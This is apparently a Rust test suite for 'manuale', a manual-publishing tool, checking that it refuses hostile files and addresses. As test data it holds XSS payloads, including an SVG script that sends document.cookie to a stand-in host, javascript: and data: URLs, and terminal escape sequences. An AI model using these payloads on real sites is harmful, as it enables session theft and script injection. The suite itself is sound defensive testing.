//! Every file and address `manuale` takes besides the sheet, tried as an
//! attacker (or an unlucky office) brings them: a logo that is a FIFO, a
//! link to `/dev/zero` or out of the book, a 300 MB logo, an SVG with a
//! script, a FIFO at `book.toml` or at the import journal, a 400 MB
//! edition, `javascript:` in every address of `book.toml` and the command
//! line, `.git` inside `content/`, control characters in `--atto` and
//! `--ente`. Each gets a clear error naming the file in seconds, exit 1,
//! and nothing changed; nothing hidden is published.

use crate::common::*;
use std::path::Path;
use std::process::{Command, Output, Stdio};
use std::time::{Duration, Instant};

/// Runs `manuale` in `dir`, killed if it takes more than a minute (a
/// FIFO read would block for good): the answer must come in seconds.
fn run_bounded(dir: &Path, args: &[&str]) -> Output {
    let mut child = crate::common::manuale_command()
        .args(args)
        .current_dir(dir)
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .expect("run manuale");
    let started = Instant::now();
    loop {
        if child.try_wait().expect("wait").is_some() {
            return child.wait_with_output().expect("output");
        }
        if started.elapsed() > Duration::from_secs(60) {
            let _ = child.kill();
            let out = child.wait_with_output().expect("output");
            panic!(
                "manuale {args:?} still running after a minute: {}",
                stderr(&out)
            );
        }
        std::thread::sleep(Duration::from_millis(50));
    }
}

/// Exit 1, a clear message with all of `words` (the error, and at most a
/// line on what was left as it was), no panic.
fn refused(out: &Output, words: &[&str]) {
    let err = stderr(out);
    assert_eq!(out.status.code(), Some(1), "{err}");
    for w in words {
        assert!(err.contains(w), "«{w}» missing from: {err}");
    }
    assert!(!err.contains("panicked"), "{err}");
    assert!(err.trim().lines().count() <= 2, "one paragraph: {err}");
}

fn mkfifo(path: &Path) {
    let status = Command::new("mkfifo").arg(path).status().expect("mkfifo");
    assert!(status.success());
}

/// Sets `[ente] logo` of the book to `name`.
fn set_logo(b: &Book, name: &str) {
    let text: String = b
        .read("book.toml")
        .lines()
        .map(|l| {
            if l.starts_with("logo = ") {
                format!("logo = \"{name}\"\n")
            } else {
                format!("{l}\n")
            }
        })
        .collect();
    assert!(text.contains(&format!("logo = \"{name}\"")));
    std::fs::write(b.join("book.toml"), text).unwrap();
}

/// A built book, with a snapshot of its site to compare after a refused
/// build.
fn built_with_snapshot() -> (
    Book,
    std::collections::BTreeMap<std::path::PathBuf, Vec<u8>>,
) {
    let b = Book::built();
    let before = snapshot(&b.join("book"));
    (b, before)
}

#[test]
fn a_logo_that_is_not_a_plain_file_of_the_book_is_refused_in_seconds() {
    let (b, before) = built_with_snapshot();
    let outside = tempfile::tempdir().unwrap();
    std::fs::write(
        outside.path().join("segreto.svg"),
        "<svg width='1' height='1'/>",
    )
    .unwrap();

    mkfifo(&b.join("fifo.svg"));
    std::os::unix::fs::symlink("/dev/zero", b.join("zero.svg")).unwrap();
    std::os::unix::fs::symlink(outside.path().join("segreto.svg"), b.join("fuori.svg")).unwrap();
    // 300 MB, sparse: nothing is written to the disk.
    let big = std::fs::File::create(b.join("grande.png")).unwrap();
    big.set_len(300 << 20).unwrap();
    std::fs::create_dir(b.join("cartella.svg")).unwrap();

    for (name, words) in [
        ("fifo.svg", &["fifo.svg", "pipe"][..]),
        (
            "zero.svg",
            &["zero.svg", "fuori dalla cartella del manuale"][..],
        ),
        (
            "fuori.svg",
            &["fuori.svg", "fuori dalla cartella del manuale"][..],
        ),
        ("grande.png", &["grande.png", "troppo grande", "1 MB"][..]),
        ("cartella.svg", &["cartella.svg", "cartella"][..]),
    ] {
        set_logo(&b, name);
        let out = run_bounded(b.path(), &["costruisci"]);
        refused(&out, words);
        assert!(stderr(&out).contains("book.toml"), "{}", stderr(&out));
        assert_eq!(
            snapshot(&b.join("book")),
            before,
            "{name}: the site changed"
        );
    }
}

#[test]
fn an_svg_logo_that_runs_or_loads_anything_is_refused() {
    let (b, before) = built_with_snapshot();
    let cases = [
        r#"<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>fetch('https://x.example/?c='+document.cookie)</script></svg>"#,
        r#"<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10" onload="alert(1)"><rect width="10" height="10"/></svg>"#,
        r#"<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="10" height="10"><a xlink:href="javascript:alert(1)"><rect width="10" height="10"/></a></svg>"#,
        r#"<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><foreignObject width="10" height="10"><iframe xmlns="http://www.w3.org/1999/xhtml" src="https://x.example"/></foreignObject></svg>"#,
        r#"<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><image href="https://tracker.example/pixel.png" width="1" height="1"/></svg>"#,
    ];
    for (i, svg) in cases.iter().enumerate() {
        let name = format!("logo-{i}.svg");
        std::fs::write(b.join(&name), svg).unwrap();
        set_logo(&b, &name);
        let out = run_bounded(b.path(), &["costruisci"]);
        refused(&out, &[&name, "SVG"]);
        assert_eq!(
            snapshot(&b.join("book")),
            before,
            "{name}: the site changed"
        );
        std::fs::write(
            b.join("book.toml"),
            b.read("book.toml")
                .replace(&format!("logo = \"{name}\""), "logo = \"logo.svg\""),
        )
        .unwrap();
    }
    // The chamber's own logo, with gradients and internal references,
    // still passes.
    let out = b.run(&["costruisci"]);
    assert!(out.status.success(), "{}", stderr(&out));
}

#[test]
fn a_fifo_where_book_toml_or_the_import_journal_should_be_is_refused_in_seconds() {
    let b = Book::imported();
    let content = snapshot(&b.join("content"));
    mkfifo(&b.join("content/.manuale-journal"));
    let out = run_bounded(b.path(), &["importa"]);
    refused(&out, &[".manuale-journal", "pipe"]);
    std::fs::remove_file(b.join("content/.manuale-journal")).unwrap();
    assert_eq!(snapshot(&b.join("content")), content);

    std::fs::remove_file(b.join("book.toml")).unwrap();
    mkfifo(&b.join("book.toml"));
    for args in [&["costruisci"][..], &["importa"], &["controlla"]] {
        let out = run_bounded(b.path(), args);
        refused(&out, &["book.toml", "pipe"]);
    }
    assert_eq!(snapshot(&b.join("content")), content);
    assert!(!b.join("book").exists());
}

#[test]
fn an_edition_too_big_to_be_one_is_refused_before_it_is_read() {
    let b = Book::imported();
    b.freeze_first_edition();
    let map = b.join("editions/2026-01-28/mappa.json");
    // 400 MB, sparse: reading it whole took 4 GB and aborted the build.
    std::fs::OpenOptions::new()
        .write(true)
        .open(&map)
        .unwrap()
        .set_len(400 << 20)
        .unwrap();
    let out = run_bounded(b.path(), &["costruisci"]);
    refused(&out, &["mappa.json", "troppo grande"]);
    assert!(!b.join("book").exists());
}

/// The address keys of `book.toml` and where each is written.
const URL_KEYS: [(&str, &str); 8] = [
    ("[manuale]", "licenza_url"),
    ("[manuale]", "indirizzo"),
    ("[ente]", "sito"),
    ("[ente]", "trasparenza"),
    ("[ente]", "accessibilita"),
    ("[ente]", "atto_url"),
    ("[[piede]]", "url"),
    ("[[ente.percorso]]", "url"),
];

/// `book.toml` with `key` of `table` set to `value` (a TOML string, escapes
/// allowed), the key added to the table if it is not written.
fn with_url(text: &str, table: &str, key: &str, value: &str) -> String {
    if table == "[[ente.percorso]]" {
        // Written inline in the bundled book: the first step's address.
        let first =
            "url = \"https://www.esempio.camcom.it/amministrazione-trasparente/altri-contenuti/\"";
        assert!(text.contains(first));
        return text.replacen(first, &format!("url = \"{value}\""), 1);
    }
    let line = format!("{key} = \"{value}\"");
    let mut out = String::new();
    let mut in_table = false;
    let mut done = false;
    for l in text.lines() {
        let t = l.trim_start();
        if t.starts_with('[') {
            if in_table && !done {
                out.push_str(&line);
                out.push('\n');
                done = true;
            }
            in_table = t.trim_end() == table;
            out.push_str(l);
            out.push('\n');
            continue;
        }
        if in_table && !done && t.starts_with(&format!("{key} =")) {
            out.push_str(&line);
            out.push('\n');
            done = true;
            continue;
        }
        out.push_str(l);
        out.push('\n');
    }
    if !done {
        if table == "[[piede]]" || table == "[[ente.percorso]]" {
            out.push_str(&format!("\n{table}\nnome = \"Link\"\n{line}\n"));
        } else if in_table {
            out.push_str(&line);
            out.push('\n');
        } else {
            out.push_str(&format!("\n{table}\n{line}\n"));
        }
    }
    out
}

#[test]
fn an_address_that_would_run_code_is_refused_in_every_key_of_book_toml() {
    let (b, before) = built_with_snapshot();
    let original = b.read("book.toml");
    let attacks = [
        "javascript:alert(document.domain)",
        "JaVaScRiPt:alert(1)",
        " javascript:alert(1)",
        "java\\tscript:alert(1)",
        "java\\nscript:alert(1)",
        "data:text/html,<script>alert(1)</script>",
        "vbscript:msgbox(1)",
    ];
    for (table, key) in URL_KEYS {
        for attack in attacks {
            let text = with_url(&original, table, key, attack);
            assert_ne!(text, original);
            std::fs::write(b.join("book.toml"), &text).unwrap();
            let out = run_bounded(b.path(), &["costruisci"]);
            let err = stderr(&out);
            assert_eq!(
                out.status.code(),
                Some(1),
                "{table} {key} = {attack}: {err}"
            );
            assert!(
                err.contains("book.toml:") && err.contains(key),
                "{table} {key} = {attack}: {err}"
            );
            assert!(
                !err.contains('\u{1b}') && !err.contains("panicked"),
                "{err}"
            );
            assert_eq!(
                snapshot(&b.join("book")),
                before,
                "{table} {key} = {attack}: the site changed"
            );
        }
    }
    // What a chamber really writes is still accepted: full addresses, and
    // relative links and mail in the footer.
    let mut text = with_url(
        &original,
        "[[piede]]",
        "url",
        "mailto:urp@example.camcom.it",
    );
    text = with_url(&text, "[manuale]", "licenza_url", "../licenza.html");
    std::fs::write(b.join("book.toml"), &text).unwrap();
    let out = b.run(&["costruisci"]);
    assert!(out.status.success(), "{}", stderr(&out));
    assert!(b
        .read("book/index.html")
        .contains("href=\"mailto:urp@example.camcom.it\""));
}

#[test]
fn edizione_refuses_a_url_that_runs_code_and_an_act_with_terminal_codes() {
    let b = Book::imported();
    for url in [
        "javascript:alert(1)",
        "JAVASCRIPT:alert(1)",
        "data:text/html,x",
        "vbscript:x",
        "delibera.pdf",
    ] {
        let out = b.run(&[
            "edizione",
            "--data",
            "2026-01-28",
            "--atto",
            "Delibera n. 12",
            "--url",
            url,
        ]);
        refused(&out, &["--url", url]);
        assert!(
            !b.join("editions").exists()
                || std::fs::read_dir(b.join("editions"))
                    .unwrap()
                    .next()
                    .is_none()
        );
    }
    let out = b.run(&[
        "edizione",
        "--data",
        "2026-01-28",
        "--atto",
        "Delibera \u{1b}]0;pwned\u{7}\u{1b}[2J n. 12",
    ]);
    refused(&out, &["--atto", "carattere di controllo"]);
    assert!(!stderr(&out).contains('\u{1b}') && !stdout(&out).contains('\u{1b}'));

    let out = b.run(&[
        "edizione",
        "--data",
        "2026-01-28",
        "--atto",
        "Delibera di Giunta n. 12 del 28/01/2026",
        "--url",
        "https://www.example.camcom.it/delibere/12.pdf",
    ]);
    assert!(out.status.success(), "{}", stderr(&out));
}

#[test]
fn hidden_folders_and_files_in_content_are_never_published() {
    let b = Book::imported();
    let content = b.join("content");
    for (path, text) in [
        (
            ".git/config",
            "[remote \"origin\"]\n\turl = https://user:token@git.example/x\n",
        ),
        (".git/objects/ab/cdef", "blob"),
        (".git/HEAD", "ref: refs/heads/main\n"),
        (".svn/entries", "12\n"),
        (".hg/hgrc", "[paths]\n"),
        (".env", "PASSWORD=segreta\n"),
        (".DS_Store", "mac"),
        ("C/.nascosto/appunti.md", "---\ncode: C9.9\n---\n"),
        ("C/.bozza.md", "---\ncode: C9.9.9\n---\n"),
        ("immagini/schema.png", "png"),
    ] {
        let p = content.join(path);
        std::fs::create_dir_all(p.parent().unwrap()).unwrap();
        std::fs::write(p, text).unwrap();
    }
    let out = b.run(&["costruisci"]);
    assert!(out.status.success(), "{}", stderr(&out));
    let published: Vec<String> = snapshot(&b.join("book"))
        .into_keys()
        .map(|p| p.to_string_lossy().into_owned())
        .collect();
    let hidden: Vec<&String> = published
        .iter()
        // manuale's own markers (what it built, what the search index
        // holds) are its only hidden files.
        .filter(|p| {
            p.split('/')
                .any(|c| c.starts_with('.') && !c.starts_with(".manuale-"))
        })
        .collect();
    assert!(hidden.is_empty(), "published: {hidden:?}");
    assert!(published
        .iter()
        .any(|p| p == "contenuti/immagini/schema.png"));
    let all: String = snapshot(&b.join("book"))
        .into_values()
        .map(|v| String::from_utf8_lossy(&v).into_owned())
        .collect();
    assert!(!all.contains("token@git.example") && !all.contains("PASSWORD=segreta"));
}

#[test]
fn init_refuses_a_chamber_name_on_two_lines_and_a_failed_init_blocks_nothing() {
    let outside = tempfile::tempdir().unwrap();
    let dir = outside.path();
    std::fs::copy(repo().join(SHEET), dir.join("m.tsv")).unwrap();

    for name in [
        "Camera di commercio\ndi Alpi",
        "Camera\tdi Alpi",
        "Camera \u{1b}[31mAlpi",
    ] {
        let out = run_bounded(dir, &["nuovo", "alpi", "m.tsv", "--ente", name]);
        refused(&out, &["--ente", "una riga"]);
        assert!(!stderr(&out).contains('\u{1b}'));
        assert!(!dir.join("alpi").exists(), "a folder was left");
    }
    // A sheet that is not there: nothing is left that blocks the retry.
    let out = run_bounded(dir, &["nuovo", "alpi", "manca.tsv"]);
    assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
    assert!(stderr(&out).contains("manca.tsv"), "{}", stderr(&out));
    assert!(!dir.join("alpi").exists(), "a folder was left");
    // The user's own empty folder stays, empty.
    std::fs::create_dir(dir.join("vuota")).unwrap();
    let out = run_bounded(dir, &["nuovo", "vuota", "manca.tsv"]);
    assert_eq!(out.status.code(), Some(1));
    assert!(dir.join("vuota").is_dir());
    assert_eq!(std::fs::read_dir(dir.join("vuota")).unwrap().count(), 0);
    let leftovers: Vec<_> = std::fs::read_dir(dir)
        .unwrap()
        .filter_map(Result::ok)
        .map(|e| e.file_name().to_string_lossy().into_owned())
        .filter(|n| n.contains("manuale"))
        .collect();
    assert!(leftovers.is_empty(), "{leftovers:?}");

    // Quotes and backslashes in the name are kept as written, and the new
    // book reads.
    let name = r#"Camera di commercio "Alpi" \ Dolomiti"#;
    let out = run_bounded(dir, &["nuovo", "alpi", "m.tsv", "--ente", name]);
    assert!(out.status.success(), "{}", stderr(&out));
    let out = run_bounded(&dir.join("alpi"), &["costruisci"]);
    assert!(out.status.success(), "{}", stderr(&out));
    let home = std::fs::read_to_string(dir.join("alpi/book/index.html")).unwrap();
    assert!(
        home.contains("Camera di commercio &quot;Alpi&quot; \\ Dolomiti"),
        "name not shown"
    );
}
